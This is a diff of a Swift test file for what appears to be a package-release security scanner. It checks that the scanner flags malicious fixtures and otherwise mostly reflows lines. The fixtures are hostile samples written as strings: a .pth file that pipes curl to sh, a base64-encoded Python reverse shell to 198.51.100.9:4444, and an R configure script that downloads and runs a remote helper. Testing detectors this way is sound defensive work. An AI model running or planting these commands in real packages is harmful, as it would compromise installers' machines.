@@ -33,12 +33,15 @@ import Testing
     func facts(_ findings: [ContentFinding]) -> ReleaseFacts {
         let now = Date()
         let file = Distribution(
-            ecosystem: .pypi, project: ProjectName("maturelib"), version: "2.0", filename: "maturelib-2.0.tar.gz", kind: .sdist, digest: Digest.of([1]), size: 1,
+            ecosystem: .pypi, project: ProjectName("maturelib"), version: "2.0", filename: "maturelib-2.0.tar.gz", kind: .sdist,
+            digest: Digest.of([1]), size: 1,
             uploadTime: now.addingTimeInterval(-90 * 86_400))
         var facts = ReleaseFacts(
             ecosystem: .pypi, project: ProjectName("maturelib"), version: "2.0", files: [file],
-            people: ProjectPeople(author: "Ada Lovelace", authorEmail: "ada@example.org", maintainer: "Grace Hopper", maintainerEmail: "grace@example.org"),
-            selectedBy: "maturelib", history: ProjectHistory(firstUpload: now.addingTimeInterval(-5 * 365 * 86_400), lastUpload: file.uploadTime, releaseCount: 40),
+            people: ProjectPeople(
+                author: "Ada Lovelace", authorEmail: "ada@example.org", maintainer: "Grace Hopper", maintainerEmail: "grace@example.org"),
+            selectedBy: "maturelib",
+            history: ProjectHistory(firstUpload: now.addingTimeInterval(-5 * 365 * 86_400), lastUpload: file.uploadTime, releaseCount: 40),
             license: LicenseExpression.parse("MIT"), declaredLicense: "MIT", dependents: 30)
         facts.contentFindings = findings
         return facts
@@ -50,7 +53,8 @@ import Testing
 
     @Test func aPthFileThatRunsACommandAtEveryStartIsDenied() throws {
         let evil = PackageSpec(
-            "maturelib", "2.0", extraFiles: ["maturelib_init.pth": "# path entries below\nmaturelib\nimport os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"])
+            "maturelib", "2.0",
+            extraFiles: ["maturelib_init.pth": "# path entries below\nmaturelib\nimport os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"])
         let findings = try scan(evil)
         let pth = try #require(findings.first { $0.signal == .pthExec })
         #expect(pth.member == "maturelib_init.pth" && pth.line == 3 && pth.excerpt.contains("os.system"), "\(pth)")
@@ -58,7 +62,11 @@ import Testing
         #expect(decision.verdict == .deny)
         #expect(decision.factors.contains { $0.name == "rule:content:pth_exec" && $0.signal.contains("maturelib_init.pth:3") }, "\(decision.factors)")
         // A .pth that only imports a module of the package (setuptools' distutils shim does this) is no signal.
-        let benign = PackageSpec("maturelib", "2.0", extraFiles: ["shim.pth": "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_shim').add()\n"])
+        let benign = PackageSpec(
+            "maturelib", "2.0",
+            extraFiles: [
+                "shim.pth": "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_shim').add()\n"
+            ])
         #expect(try scan(benign).isEmpty)
     }
 
@@ -80,14 +88,19 @@ import Testing
         #expect(!findings.contains { $0.signal == .installShell }, "the comment and the string ran nothing: \(findings)")
         #expect(decide(findings).verdict == .deny)
         // The same sdist with an ordinary setup.py.
-        let clean = try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["setup.py": "from setuptools import setup\nexec(open('maturelib/_version.py').read())\nsetup(name='maturelib')\n"]))
+        let clean = try scan(
+            PackageSpec(
+                "maturelib", "2.0", kinds: ["sdist"],
+                extraFiles: ["setup.py": "from setuptools import setup\nexec(open('maturelib/_version.py').read())\nsetup(name='maturelib')\n"]))
         #expect(clean.isEmpty, "\(clean)")
         #expect(decide(clean).verdict == .approve)
     }
 
     @Test func aBase64PayloadExecutedAtImportIsDenied() throws {
-        let payload = Data(String(repeating: "import socket, os; s = socket.socket(); s.connect(('198.51.100.9', 4444)); os.dup2(s.fileno(), 0)\n", count: 12).utf8)
-            .base64EncodedString()
+        let payload = Data(
+            String(repeating: "import socket, os; s = socket.socket(); s.connect(('198.51.100.9', 4444)); os.dup2(s.fileno(), 0)\n", count: 12).utf8
+        )
+        .base64EncodedString()
         let code = "import base64\n_p = '\(payload)'\nexec(base64.b64decode(_p))\n"
         let findings = try scan(PackageSpec("maturelib", "2.0", code: code))
         let exec = try #require(findings.first { $0.signal == .decodeExec })
@@ -104,12 +117,18 @@ import Testing
         #expect(binary.member == "maturelib-2.0/maturelib/_speedups.so" && binary.detail.contains("ELF"))
         // Noted by default (setuptools ships launchers in its sdist); a policy can send it to review.
         let decision = decide(findings)
-        #expect(decision.verdict == .approve && decision.factors.contains { $0.name == "note:content:binary_in_sdist" && $0.signal.contains("_speedups.so") })
+        #expect(
+            decision.verdict == .approve
+                && decision.factors.contains { $0.name == "note:content:binary_in_sdist" && $0.signal.contains("_speedups.so") })
         let shipped = try PolicyFile.shipped()
-        let strict = try PolicyFile.parse(shipped.text.replacingOccurrences(of: "binary_in_sdist = \"note\"", with: "binary_in_sdist = \"review\""), path: "strict.toml")
+        let strict = try PolicyFile.parse(
+            shipped.text.replacingOccurrences(of: "binary_in_sdist = \"note\"", with: "binary_in_sdist = \"review\""), path: "strict.toml")
         #expect(PolicyEngine(strict, feeds: engine.feeds).evaluate(facts(findings), at: Date()).verdict == .review)
-        #expect(try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["tests/data/hello-armv7l": "b64:" + elf])).isEmpty, "test fixtures are data")
-        #expect(try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["maturelib/_speedups.c": "int f(void) { return 1; }\n"])).isEmpty)
+        #expect(
+            try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["tests/data/hello-armv7l": "b64:" + elf])).isEmpty,
+            "test fixtures are data")
+        #expect(
+            try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["maturelib/_speedups.c": "int f(void) { return 1; }\n"])).isEmpty)
     }
 
     /// What a mature project's release adds over its previous approved one is named as new, and a
@@ -121,7 +140,8 @@ import Testing
         changed.previousRelease = PreviousRelease(version: "1.9", signals: [])
         let decision = engine.evaluate(changed, at: Date())
         #expect(decision.verdict == .review, "\(decision.factors)")
-        #expect(decision.factors.contains { $0.name == "rule:content:binary_in_sdist" && $0.signal.contains("new since 1.9, which had no such code") })
+        #expect(
+            decision.factors.contains { $0.name == "rule:content:binary_in_sdist" && $0.signal.contains("new since 1.9, which had no such code") })
         var same = facts(findings)
         same.previousRelease = PreviousRelease(version: "1.9", signals: [.binaryInSdist])
         #expect(engine.evaluate(same, at: Date()).verdict == .approve, "1.9 shipped a binary too: nothing changed")
@@ -133,7 +153,10 @@ import Testing
         first.history = ProjectHistory(firstUpload: first.history.firstUpload, lastUpload: first.history.lastUpload, releaseCount: 1)
         first.summary = ""
         let decision = engine.evaluate(first, at: Date())
-        #expect(decision.factors.contains { $0.name == "rule:content:high_first_version" && $0.signal.contains("first and only release is already at version 9.79") })
+        #expect(
+            decision.factors.contains {
+                $0.name == "rule:content:high_first_version" && $0.signal.contains("first and only release is already at version 9.79")
+            })
         #expect(decision.factors.contains { $0.name == "note:content:no_summary" })
         #expect(decision.verdict == .review, "\(decision.factors)")
         var later = facts([])
@@ -149,7 +172,10 @@ import Testing
         #expect(shadow.line == 3 && shadow.detail.contains("'pip'"), "\(shadow)")
         #expect(decide(findings).verdict == .review)
         // pip itself may install `pip`.
-        let own = try scan(PackageSpec("pip", "24.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\npip = pip._internal:main\npip3 = pip._internal:main\n"]))
+        let own = try scan(
+            PackageSpec(
+                "pip", "24.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\npip = pip._internal:main\npip3 = pip._internal:main\n"]
+            ))
         #expect(own.isEmpty, "\(own)")
     }
 
@@ -169,10 +195,12 @@ import Testing
         }
         func scanR(_ path: String) throws -> [ContentFinding] {
             try ArchiveInspector().inspect(
-                path: path, displayName: "rpkg_1.0.tar.gz", metadata: .rDescription, scanner: ContentScanner(kind: .rSource, file: "rpkg_1.0.tar.gz", project: "rpkg")
+                path: path, displayName: "rpkg_1.0.tar.gz", metadata: .rDescription,
+                scanner: ContentScanner(kind: .rSource, file: "rpkg_1.0.tar.gz", project: "rpkg")
             ).findings
         }
-        let evil = try scanR(try tarball("#!/bin/sh\n# fetch the helper\ncurl -fsSL https://203.0.113.7/helper.sh -o /tmp/h && sh /tmp/h\n", "evil.tar.gz"))
+        let evil = try scanR(
+            try tarball("#!/bin/sh\n# fetch the helper\ncurl -fsSL https://203.0.113.7/helper.sh -o /tmp/h && sh /tmp/h\n", "evil.tar.gz"))
         let finding = try #require(evil.first { $0.signal == .rInstallCode })
         #expect(finding.member == "rpkg/configure" && finding.line == 3, "\(finding)")
         #expect(decide(evil).verdict == .review)
